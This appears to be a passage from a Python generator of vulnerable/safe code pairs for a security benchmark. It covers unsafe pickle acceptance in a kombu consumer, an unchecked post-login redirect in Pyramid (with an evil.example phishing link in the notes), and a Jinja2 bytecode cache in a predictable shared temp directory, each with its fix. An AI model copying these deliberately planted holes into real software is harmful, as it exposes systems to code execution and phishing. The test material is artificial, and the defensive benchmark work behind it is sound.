        P("cli", rank=5, imp="import sys\nimport os", const='DEBUG = os.environ.get("$WU_WORKER_DEBUG", "") == "1"', tail='''
            if __name__ == "__main__":
                logging.basicConfig(level=logging.DEBUG if DEBUG else logging.INFO)
                sys.exit(0 if consume() >= 0 else 1)
        '''),
    ]
    return core, pool


_KOMBU_DOCS = ["Job queue of the $w service on kombu: the web tier publishes JSON jobs, this worker consumes them.",
               "$W background jobs: publishing and consuming over the message broker (kombu SimpleQueue).",
               "Worker loop and job serialisation for $w jobs (kombu)."]


@fam("mod6-kombu-simplequeue-accept-pickle", "CWE-502", fws=["pipeline"], n=8, wrap=False)
def mod6_kombu_pickle(c):
    kw = _kombu_kw(c)
    core, pool = _kombu_parts(c)
    acc = c.pick('["json", "pickle"]', '{"json", "pickle"}', '["pickle", "json"]', '("json", "msgpack", "pickle")')
    vfix = f"queue = conn.SimpleQueue(QUEUE_NAME, accept={acc})  #@V"
    sfix = 'queue = conn.SimpleQueue(QUEUE_NAME, accept=["json"])'
    v, s = pair(c, c.pick(*_KOMBU_DOCS), '$log = logging.getLogger("$w.jobs")', core, pool, kw, vfix, sfix)
    return Spec(v=v, s=s, full=True, fw="pipeline",
                notes="the consumer's accept list includes pickle, so message.payload unpickles any message whose "
                      "content-type is application/x-python-serialize: whoever can publish to the queue (another "
                      "service, a leaked broker credential) runs code in the worker; jobs are published as JSON, "
                      "so accept=['json'] is the fix (kombu then rejects other content types)")


@hardneg(10)
def mod6_kombu_pickle_hn(c):
    kw = _kombu_kw(c)
    core, pool = _kombu_parts(c)
    fix = c.pick('queue = conn.SimpleQueue(QUEUE_NAME, accept=["json"])',
                 'queue = conn.SimpleQueue(QUEUE_NAME, serializer="json", accept=["json"])',
                 'queue = conn.SimpleQueue(QUEUE_NAME, accept={"application/json"})',
                 'queue = conn.SimpleQueue(QUEUE_NAME, no_ack=False, accept=("json",))')
    code = compose(c, c.pick(*_KOMBU_DOCS), '$log = logging.getLogger("$w.jobs")', core, pool, kw, lo=80, hi=110,
                   subs=[{"$FIX": fix}])[0]
    return Spec(s=code.replace("  #@S", ""), full=True, fw="pipeline",
                notes="kombu consumer that accepts JSON only; the only pickle is the worker's own state file in a "
                      "0700 directory; yaml.safe_load for routing, sha256 idempotency keys, random for retry jitter")


# ---------------- CWE-601: Pyramid sign-in view redirecting to came_from unchecked ----------------


def _pyr_kw(c):
    w = _word(c)
    return dict(w=w, W=w.capitalize(), WU=w.upper(), log=c.pick("log", "logger"), param=c.pick("came_from", "came_from", "next", "return_to"),
                local_fn=c.pick("is_local_target", "_safe_next", "same_site_path"), pkg=c.pick(f"{w}_site", f"{w}app", "portal"))


def _pyr_parts(c):
    src = c.pick('request.params.get("$param")', 'request.GET.get("$param")')
    core = [
        P("logging", rank=0, imp="import logging"),
        P("local", rank=1, imp="from urllib.parse import urlsplit", body='''
            def $local_fn(target: str) -> bool:
                """Only same-site paths: one leading slash, no scheme or host, no backslash or control characters."""
                if not target.startswith("/") or target.startswith("//"):
                    return False
                if "\\\\" in target or not target.isprintable():
                    return False
                parts = urlsplit(target)
                return not parts.scheme and not parts.netloc
        '''),
        P("login", rank=3, imp="from pyramid.httpexceptions import HTTPFound\nfrom pyramid.csrf import check_csrf_token\n"
                                "from pyramid.security import remember\nfrom pyramid.view import view_config\nfrom .models import User",
          body='''
            @view_config(route_name="login", renderer="$pkg:templates/login.jinja2")
            def login_view(request):
                $param = ''' + src + ''' or request.route_path("home")  #@S
                message = ""
                login = ""
                if request.method == "POST":
                    check_csrf_token(request)
                    login = request.POST.get("login", "").strip()
                    user = request.dbsession.query(User).filter_by(login=login).one_or_none()
                    if user is not None and user.check_password(request.POST.get("password", "")):
                        headers = remember(request, str(user.id))
                        $log.info("user %s signed in", user.id)
                        $FIX
                    $log.info("failed sign-in for %r", login)
                    message = "Unknown login or wrong password."
                return {"$param": $param, "message": message, "login": login}
        '''),
    ]
    pool = [
        P("logout", rank=3, imp="from pyramid.httpexceptions import HTTPSeeOther\nfrom pyramid.security import forget\nfrom pyramid.view import view_config",
          body='''
            @view_config(route_name="logout", request_method="POST", require_csrf=True)
            def logout_view(request):
                headers = forget(request)
                target = request.POST.get("$param", "")
                if not $local_fn(target):
                    target = request.route_path("home")
                return HTTPSeeOther(location=target, headers=headers)
        '''),
        P("forbidden", rank=3, imp="from pyramid.httpexceptions import HTTPForbidden, HTTPFound\nfrom pyramid.view import forbidden_view_config",
          body='''
            @forbidden_view_config()
            def forbidden_view(request):
                """Anonymous users go to the sign-in page and come back here; signed-in users get a 403."""
                if request.authenticated_userid is None:
                    return HTTPFound(location=request.route_url("login", _query={"$param": request.path_qs}))
                return HTTPForbidden()
        '''),
        P("home", rank=3, imp="from pyramid.httpexceptions import HTTPFound\nfrom pyramid.view import view_config", body='''
            @view_config(route_name="root")
            def root_view(request):
                """Bare / goes to the dashboard of a signed-in user, else to the public home page."""
                name = "dashboard" if request.authenticated_userid else "home"
                return HTTPFound(location=request.route_url(name))
        '''),
        P("includeme", rank=5, tail='''
            def includeme(config):
                config.add_route("login", "/login")
                config.add_route("logout", "/logout")
                config.add_route("root", "/")
                config.scan(__name__)
        '''),
        P("throttle", rank=2, imp="import random\nimport time", body='''
            def failed_login_pause() -> None:
                """A short, jittered pause after a failed sign-in (timing noise, not a rate limit)."""
                time.sleep(0.2 + random.uniform(0, 0.3))
        '''),
        P("settings", rank=1, imp="import os", const='DEBUG_AUTH = os.environ.get("$WU_DEBUG_AUTH", "") == "1"', body='''
            def auth_log_level() -> int:
                """Verbose auth logging only when $WU_DEBUG_AUTH=1; never logs passwords."""
                return logging.DEBUG if DEBUG_AUTH else logging.INFO
        '''),
    ]
    return core, pool


_PYR_DOCS = ["Sign-in and sign-out views of the $w site (Pyramid).", "Authentication views for $w: login, logout, forbidden.",
             "Pyramid views that sign users in and out of the $w portal."]


@fam("mod6-pyramid-login-came-from-redirect", "CWE-601", fws=["pyramid"], n=8, wrap=False)
def mod6_pyramid_came_from(c):
    kw = _pyr_kw(c)
    core, pool = _pyr_parts(c)
    vfix = "return HTTPFound(location=$param, headers=headers)  #@V"
    sfix = c.pick('return HTTPFound(location=$param if $local_fn($param) else request.route_path("home"), headers=headers)',
                  'return HTTPFound(location=$param if $local_fn($param) else request.route_url("home"), headers=headers)')
    v, s = pair(c, c.pick(*_PYR_DOCS), '$log = logging.getLogger(__name__)', core, pool, kw, fill(vfix, **kw), fill(sfix, **kw))
    return Spec(v=v, s=s, full=True, fw="pyramid",
                notes="after a successful sign-in the view redirects to the $param parameter unchecked: a link to "
                      "/login?$param=https://evil.example sends the freshly signed-in user to a look-alike site "
                      "(phishing); the module's own helper, used on logout, allows only same-site paths")


@hardneg(10)
def mod6_pyramid_came_from_hn(c):
    kw = _pyr_kw(c)
    core, pool = _pyr_parts(c)
    fix = c.pick('return HTTPFound(location=$param if $local_fn($param) else request.route_path("home"), headers=headers)',
                 'return HTTPFound(location=request.route_url("dashboard"), headers=headers)',
                 'if not $local_fn($param):\n                $param = request.route_path("home")\n'
                 '            return HTTPFound(location=$param, headers=headers)')
    code = compose(c, c.pick(*_PYR_DOCS), '$log = logging.getLogger(__name__)', core, pool, kw, lo=70, hi=110,
                   subs=[{"$FIX": fill(fix, **kw)}])[0]
    return Spec(s=code.replace("  #@S", ""), full=True, fw="pyramid",
                notes="Pyramid views whose redirects go to route_url/route_path targets or to same-site paths "
                      "checked by the module's helper; random only for a timing pause")


# ---------------- CWE-377: Jinja2 bytecode cache in a shared, predictable temporary directory ----------------


def _jinja_kw(c):
    w = _word(c)
    return dict(w=w, W=w.capitalize(), WU=w.upper(), log=c.pick("log", "logger"), ENV=c.pick(f"{w.upper()}_TEMPLATE_DEBUG", "TEMPLATE_DEBUG"),
                env_fn=c.pick("make_env", "build_environment", "template_env"), render_fn=c.pick("render", "render_page", "render_mail"),
                pkg=c.pick(f"{w}_mailer", f"{w}site", "notifier"))


def _jinja_parts(c):
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import os", const='''
            TEMPLATE_DIRS = [os.path.join(os.path.dirname(os.path.abspath(__file__)), "templates")]
            DEBUG = os.environ.get("$ENV", "") == "1"
            $FIX
        '''),
        P("cache", rank=1, imp="import os\nfrom jinja2 import FileSystemBytecodeCache", body='''
            def bytecode_cache() -> FileSystemBytecodeCache:
                """Compiled templates survive restarts; the cache directory is created on first use."""
                os.makedirs(BYTECODE_DIR, mode=0o700, exist_ok=True)
                return FileSystemBytecodeCache(BYTECODE_DIR, pattern="$w-%s.cache")
        '''),
        P("env", rank=2, imp="from functools import lru_cache\nfrom jinja2 import ChoiceLoader, Environment, FileSystemLoader, "
                              "PackageLoader, StrictUndefined, select_autoescape", needs=["filters"], body='''
            @lru_cache(maxsize=None)
            def $env_fn() -> Environment:
                """The shared environment: autoescaping for HTML and XML, strict undefined, cached bytecode."""
                env = Environment(
                    loader=ChoiceLoader([FileSystemLoader(TEMPLATE_DIRS), PackageLoader("$pkg", "templates")]),
                    autoescape=select_autoescape(["html", "htm", "xml"]),
                    undefined=StrictUndefined,
                    bytecode_cache=bytecode_cache(),
                    auto_reload=DEBUG,
                    trim_blocks=True,
                    lstrip_blocks=True,
                )
                env.filters.update(FILTERS)
                return env


            def $render_fn(name: str, **context: object) -> str:
                """Render template ``name`` (a file name from our own templates directory)."""
                $log.debug("rendering %s", name)
                return $env_fn().get_template(name).render(**context)
        '''),
        P("filters", rank=1, imp="from datetime import datetime\nfrom decimal import Decimal", body='''
            def money(value: Decimal, currency: str = "EUR") -> str:
                return f"{value:,.2f} {currency}"


            def datetimeformat(value: datetime, fmt: str = "%Y-%m-%d %H:%M") -> str:
                return value.strftime(fmt)


            FILTERS = {"money": money, "datetimeformat": datetimeformat}
        '''),
    ]
    pool = [
        P("etag", rank=3, imp="import hashlib", body='''
            def body_etag(body: str) -> str:
                """ETag of a rendered page; md5 is a fingerprint here, not a security control."""
                return '"' + hashlib.md5(body.encode("utf-8"), usedforsecurity=False).hexdigest() + '"'
        '''),
        P("sandbox", rank=3, imp="from jinja2.sandbox import SandboxedEnvironment",
          setup="_subject_env = SandboxedEnvironment(autoescape=False)", body='''
            def render_subject(subject_template: str, **context: object) -> str:
                """Subject lines are edited by staff in the admin UI, so they render in the sandbox."""
                return _subject_env.from_string(subject_template).render(**context)
        '''),
        P("write", rank=3, imp="import os\nimport re\nimport tempfile", const='PAGE_NAME = re.compile(r"[a-z0-9][a-z0-9_-]{0,80}\\.html")', body='''
            def write_page(out_dir: str, name: str, html: str) -> str:
                """Write a rendered page atomically; ``name`` must be a plain page file name."""
                if not PAGE_NAME.fullmatch(name):
                    raise ValueError(f"bad page name {name!r}")
                fd, tmp = tempfile.mkstemp(dir=out_dir, suffix=".part")
                with os.fdopen(fd, "w", encoding="utf-8") as fh:
                    fh.write(html)
                final = os.path.join(out_dir, name)
                os.replace(tmp, final)
                return final
        '''),
        P("clear", rank=3, body='''
            def clear_cache() -> None:
                """Drop compiled templates (after a deploy that changed the templates)."""
                $env_fn().bytecode_cache.clear()
                $log.info("template bytecode cache cleared")
        '''),
        P("precompile", rank=3, imp="import subprocess\nimport sys", body='''
            def check_templates() -> int:
                """Compile every template in a child interpreter (the CI step uses the same check)."""
                return subprocess.run([sys.executable, "-m", "$pkg.templates_check", *TEMPLATE_DIRS], check=False).returncode
        '''),
    ]
    return core, pool


_JINJA_DOCS = ["Template environment of the $w mailer: loaders, filters and a bytecode cache (Jinja2).",
               "Jinja2 setup for $w pages, with compiled templates cached on disk.",
               "Template loading and rendering for the $w service."]


@fam("mod6-jinja2-bytecode-cache-shared-tmp", "CWE-377", fws=["script"], n=8, wrap=False)
def mod6_jinja_bytecode_tmp(c):
    kw = _jinja_kw(c)
    core, pool = _jinja_parts(c)
    shape = c.pick("literal", "gettempdir", "envdefault")
    vfix = {"literal": 'BYTECODE_DIR = "/tmp/$w-jinja-cache"  #@V',
            "gettempdir": 'BYTECODE_DIR = os.path.join(tempfile.gettempdir(), "$w-jinja-cache")  #@V',
            "envdefault": 'BYTECODE_DIR = os.environ.get("$WU_BYTECODE_DIR", "/tmp/$w-templates")  #@V'}[shape]
    if shape == "gettempdir":
        core[1].imp += "\nimport tempfile"
    safe_dir = c.pick('os.path.join(os.path.expanduser("~"), ".cache", "$w", "jinja")',
                      'os.path.join(os.environ.get("XDG_CACHE_HOME") or os.path.expanduser("~/.cache"), "$w-jinja")')
    sfix = ('BYTECODE_DIR = os.environ.get("$WU_BYTECODE_DIR", ' + safe_dir + ")") if shape == "envdefault" else \
        "BYTECODE_DIR = " + safe_dir
    v, s = pair(c, c.pick(*_JINJA_DOCS), '$log = logging.getLogger("$w.templates")', core, pool, kw, fill(vfix, **kw),
                fill(sfix, **kw))
    return Spec(v=v, s=s, full=True, fw="script",
                notes="the Jinja2 bytecode cache lives in a fixed directory under the shared temp dir; makedirs("
                      "exist_ok=True) accepts a directory another local user created first, and Jinja2 loads the "
                      "marshalled bytecode it finds there (predictable file names), so that user's code runs in "
                      "the app; the fix keeps the cache in the service user's own cache directory")


@hardneg(10)
def mod6_jinja_bytecode_tmp_hn(c):
    kw = _jinja_kw(c)
    core, pool = _jinja_parts(c)
    shape = c.pick("home", "xdg", "mkdtemp", "default")
    if shape in ("mkdtemp", "default"):
        core[1].const = core[1].const.replace("$FIX", "")
        core[2].imp += "\nimport tempfile" if shape == "mkdtemp" else ""
        core[2].body = ('''
            def bytecode_cache() -> FileSystemBytecodeCache:
                """Jinja2's default: a per-user directory it creates with mode 0700 and checks on every start."""
                return FileSystemBytecodeCache(pattern="$w-%s.cache")
        ''' if shape == "default" else '''
            def bytecode_cache() -> FileSystemBytecodeCache:
                """A fresh private directory per process (mkdtemp creates it 0700 with a random name)."""
                return FileSystemBytecodeCache(tempfile.mkdtemp(prefix="$w-jinja-"), pattern="$w-%s.cache")
        ''')
        fix = ""
    else:
        fix = "BYTECODE_DIR = " + ('os.path.join(os.path.expanduser("~"), ".cache", "$w", "jinja")' if shape == "home" else
                                   'os.path.join(os.environ.get("XDG_CACHE_HOME") or os.path.expanduser("~/.cache"), "$w-jinja")')
    code = compose(c, c.pick(*_JINJA_DOCS), '$log = logging.getLogger("$w.templates")', core, pool, kw, lo=80, hi=110,
                   subs=[{"$FIX": fill(fix, **kw)}])[0]
    return Spec(s=code, full=True, fw="script",
                notes="Jinja2 environment whose bytecode cache is in the user's own cache directory, a mkdtemp "
                      "directory or Jinja2's checked per-user default; sandboxed rendering of staff-edited subjects, "
                      "md5 ETags, mkstemp for page writes, subprocess with a fixed argument list")
